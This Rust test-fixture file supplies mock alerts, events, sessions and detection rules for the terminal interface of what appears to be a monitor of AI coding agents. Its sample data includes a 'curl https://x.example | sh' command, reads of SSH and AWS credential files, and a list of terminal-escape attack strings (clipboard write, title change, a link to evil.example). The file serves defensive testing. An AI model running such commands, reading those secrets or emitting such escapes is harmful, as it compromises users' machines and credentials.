//! Fixtures shared by the TUI tests: a fixed clock, alerts, events, sessions and a status, as
//! the daemon's API would answer them, plus a hostile variant full of terminal escapes.
#![allow(dead_code)]

use agent_api::{
    AlertList, Answer, Hit, Item, ProcessNode, Reply, RulesListing, SessionDetail, SessionList,
    Status, StreamItem, TriageEntry, TriageState,
};
use agent_model::{
    AgentRef, Alert, BStr, Event, File, Kind, KindField, Monitor, Net, Parent, Process, SessionRef,
    Severity, Timestamp,
};
use serde::de::DeserializeOwned;
use serde_json::{Value, json};
use tui::backend::{LiveLine, Purpose, Update};
use tui::state::App;

pub const T0: i64 = 1_795_600_800_000_000_000; // 2026-11-25T10:00:00Z
pub const SEC: i64 = 1_000_000_000;
pub const SESSION: &str = "00000000c0ffee01";

pub fn ts(s: i64) -> Timestamp {
    Timestamp(T0 + s * SEC)
}

pub fn alert(i: usize, sev: Severity, rule: &str, summary: &str) -> Alert {
    Alert {
        id: format!("a-{i}"),
        time: ts(i as i64),
        host: "devbox".into(),
        rule: rule.into(),
        severity: sev,
        agent: Some(AgentRef {
            name: "claude".into(),
        }),
        session: Some(SessionRef { id: SESSION.into() }),
        summary: BStr::from(summary),
        tags: vec!["secrets".into()],
        event_ids: vec![format!("e-{i}")],
        count: 1,
        first_time: ts(i as i64),
        last_time: ts(i as i64),
        in_loss_window: false,
    }
}

/// An alert hit as the daemon sends it, with a triage state (`open`: never triaged).
pub fn alert_hit(a: &Alert, state: &str) -> Hit {
    let state = TriageState::from_name(state).unwrap();
    Hit {
        item: Item::Alert(Box::new(a.clone())),
        triage: (state != TriageState::Open).then(|| TriageEntry {
            alert_id: a.id.clone(),
            state,
            note: String::new(),
            by: String::new(),
            time: a.time,
        }),
    }
}

pub fn event_hit(e: Event) -> Hit {
    Hit {
        item: Item::Event(Box::new(e)),
        triage: None,
    }
}

/// An answer line as the daemon writes it, read as the answer type `T`.
pub fn parse<T: DeserializeOwned>(v: Value) -> T {
    serde_json::from_value::<Reply<T>>(v)
        .unwrap()
        .into_result()
        .unwrap()
}

/// A live-stream line as the daemon writes it.
pub fn live(v: Value) -> Update {
    let l: LiveLine = serde_json::from_value::<StreamItem>(v).map_err(|e| e.to_string());
    Update::Live(l)
}

pub fn live_alert(a: Alert) -> Update {
    Update::Live(Ok(StreamItem::Alert(Box::new(a))))
}

pub fn live_event(e: Event) -> Update {
    Update::Live(Ok(StreamItem::Event(Box::new(e))))
}

pub fn event(i: usize, kind: Kind, path: &str) -> Event {
    let mut e = Event {
        id: format!("e-{i}"),
        time: ts(i as i64),
        host: "devbox".into(),
        kind: KindField(kind),
        agent: Some(AgentRef {
            name: "claude".into(),
        }),
        session: Some(SessionRef { id: SESSION.into() }),
        process: Process {
            pid: 4242,
            tid: 4242,
            start: ts(-10),
            exe: BStr::from("/usr/bin/cat"),
            comm: BStr::from("cat"),
            uid: 1000,
            gid: 1000,
            ..Default::default()
        },
        parent: Some(Parent {
            pid: 4200,
            start: Some(ts(-20)),
            exe: BStr::from("/usr/bin/bash"),
        }),
        ..Default::default()
    };
    match kind {
        Kind::FileOpen => {
            e.file = Some(File {
                path: BStr::from(path),
                access: Some("read".into()),
                ..Default::default()
            })
        }
        Kind::ProcessExec => {
            e.process.exe = BStr::from(path);
            e.process.cmdline = BStr::from(format!("{path} -q").as_str());
            e.process.args = vec![BStr::from(path), BStr::from("-q")];
        }
        Kind::NetConnect => {
            e.net = Some(Net {
                family: "ipv4".into(),
                protocol: Some("tcp".into()),
                dst_ip: Some("203.0.113.7".parse().unwrap()),
                dst_port: Some(443),
                ..Default::default()
            })
        }
        Kind::MonitorLoss => {
            e.monitor = Some(Monitor {
                loss_kind: Some("file.open".into()),
                loss_count: Some(37),
                message: None,
                ..Default::default()
            })
        }
        _ => {}
    }
    e
}

pub fn status(rate: f64) -> Status {
    parse(json!({
        "ok": true, "pid": 77, "uptime_s": 3725, "host": "devbox",
        "programs": ["exec", "exit", "fork", "open", "connect"],
        "ringbuf_bytes": 8388608,
        "events": {"process.exec": 120, "file.open": 5400, "net.connect": 12},
        "events_per_s": {"process.exec": rate / 10.0, "file.open": rate, "net.connect": 0.5},
        "losses": {"file.open": 37},
        "decode_errors": 0,
        "sessions": [{"id": SESSION, "agent": "claude", "root_pid": 4200}],
        "policy": {"source": "/etc/agentwatch/rules", "generation": 3, "hash": "ab12",
                   "rules": 2, "last_error": null, "hits": [["secret-read", 4]]},
        "store": {"events": 5532, "alerts": 6, "spool_bytes": 1048576,
                  "index_bytes": 73400320, "lag": 2}
    }))
}

pub fn rules() -> RulesListing {
    parse(json!({"ok": true,
    "policy": {"source": "/etc/agentwatch/rules", "generation": 3, "last_error": null},
    "rules": [
        {"id": "secret-read", "severity": "high", "enabled": true,
         "description": "an agent read a credential file", "kinds": ["file.open"],
         "tags": ["secrets"], "mode": "alert", "defined_at": "rules/secrets.toml:3:1", "hits": 4},
        {"id": "curl-pipe-shell", "severity": "critical", "enabled": true,
         "description": "download piped into a shell", "kinds": ["process.exec"],
         "tags": [], "mode": "alert", "defined_at": "rules/exec.toml:1:1", "hits": 1},
        {"id": "new-listener", "severity": "low", "enabled": false,
         "description": "a process listens on a port", "kinds": ["net.listen"],
         "tags": [], "mode": "alert", "defined_at": "rules/net.toml:9:1", "hits": 0}
    ]}))
}

pub fn sessions() -> SessionList {
    parse(json!({"ok": true, "sessions": [
        {"id": SESSION, "agent": "claude", "start": ts(-10), "end": ts(30), "events": 57,
         "alerts": 6, "root_exe": "/usr/bin/bash", "root_pid": 4200},
        {"id": "00000000c0ffee00", "agent": "codex", "start": ts(-7200), "end": ts(-3600),
         "events": 1200, "alerts": 0, "root_exe": "/usr/local/bin/codex", "root_pid": 3100}
    ]}))
}

pub fn alerts_list() -> Vec<Alert> {
    let mut v = vec![
        alert(
            1,
            Severity::High,
            "secret-read",
            "claude read ~/.ssh/id_rsa",
        ),
        alert(
            2,
            Severity::Critical,
            "curl-pipe-shell",
            "curl https://x.example | sh",
        ),
        alert(
            3,
            Severity::Medium,
            "egress-volume",
            "12 MiB sent to 203.0.113.7",
        ),
        alert(4, Severity::Low, "new-listener", "python3 listens on :8000"),
        alert(
            5,
            Severity::Info,
            "agent-config-write",
            "wrote ~/.claude/settings.json",
        ),
        alert(
            6,
            Severity::High,
            "secret-read",
            "claude read ~/.aws/credentials",
        ),
    ];
    v[0].count = 3;
    v[0].first_time = ts(-5);
    v[3].in_loss_window = true;
    v
}

pub fn session_detail() -> SessionDetail {
    let evs = vec![
        event(0, Kind::ProcessExec, "/usr/bin/bash"),
        event(1, Kind::FileOpen, "/home/dev/.ssh/id_rsa"),
        event(2, Kind::ProcessExec, "/usr/bin/curl"),
        event(3, Kind::NetConnect, ""),
        event(4, Kind::MonitorLoss, ""),
        event(5, Kind::FileOpen, "/home/dev/.aws/credentials"),
        event(7, Kind::FileOpen, "/home/dev/project/README.md"),
    ];
    let al = alerts_list();
    let node = |pid, start, exe: &str, parent_pid, parent_start, children| ProcessNode {
        pid,
        start,
        exe: exe.into(),
        parent_pid,
        parent_start,
        children,
    };
    SessionDetail {
        id: SESSION.into(),
        events: evs.into_iter().map(event_hit).collect(),
        alerts: vec![alert_hit(&al[0], "open"), alert_hit(&al[5], "acknowledged")],
        processes: vec![
            node(4200, ts(-20), "/usr/bin/bash", Some(1), None, vec![1, 2]),
            node(
                4242,
                ts(-10),
                "/usr/bin/cat",
                Some(4200),
                Some(ts(-20)),
                vec![],
            ),
            node(
                4243,
                ts(2),
                "/usr/bin/curl",
                Some(4200),
                Some(ts(-20)),
                vec![],
            ),
        ],
        roots: vec![0],
    }
}

pub fn answer(app: &mut App, purpose: Purpose, a: Answer) {
    app.on_update(Update::Answer {
        purpose,
        result: Ok(a),
    });
}

/// An app loaded with everything, as after a few seconds against a daemon.
pub fn loaded_app() -> App {
    let mut app = App::new(ts(40));
    app.outbox.clear();
    app.on_update(Update::Connected);
    answer(
        &mut app,
        Purpose::Status,
        Answer::Status(Box::new(status(40.0))),
    );
    for r in [12.0, 55.0, 30.0, 80.0, 41.0, 8.0, 60.0] {
        answer(
            &mut app,
            Purpose::Status,
            Answer::Status(Box::new(status(r))),
        );
    }
    answer(&mut app, Purpose::Rules, Answer::Rules(rules()));
    answer(&mut app, Purpose::Sessions, Answer::Sessions(sessions()));
    let hits: Vec<Hit> = alerts_list()
        .iter()
        .enumerate()
        .map(|(i, a)| alert_hit(a, if i == 2 { "acknowledged" } else { "open" }))
        .collect();
    answer(
        &mut app,
        Purpose::Alerts,
        Answer::Alerts(AlertList { hits }),
    );
    app
}

/// Strings an agent can put in file names, argv and host names to attack a terminal.
pub fn hostile_strings() -> Vec<String> {
    vec![
        "/tmp/\x1b[2J\x1b[31mRED\x1b[0m".into(),
        "/tmp/\x1b]52;c;cHduZWQ=\x07clip".into(),
        "/tmp/\x1b]0;pwned title\x1b\\x".into(),
        "/tmp/\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\".into(),
        "/tmp/\x1bP+q544e\x1b\\dcs".into(),
        "/tmp/\u{9b}31mC1-CSI\u{9d}0;t\u{9c}".into(),
        "/tmp/\u{202e}fdp.exe\u{202c}".into(),
        "/tmp/zero\u{200b}width\u{2060}\u{feff}".into(),
        "/tmp/new\nline\rcr\ttab".into(),
        "/tmp/文件/ｆｕｌｌ/e\u{301}\u{302}\u{303}\u{304}\u{305}\u{306}\u{307}".into(),
        format!("/tmp/{}", "A".repeat(65536)),
    ]
}
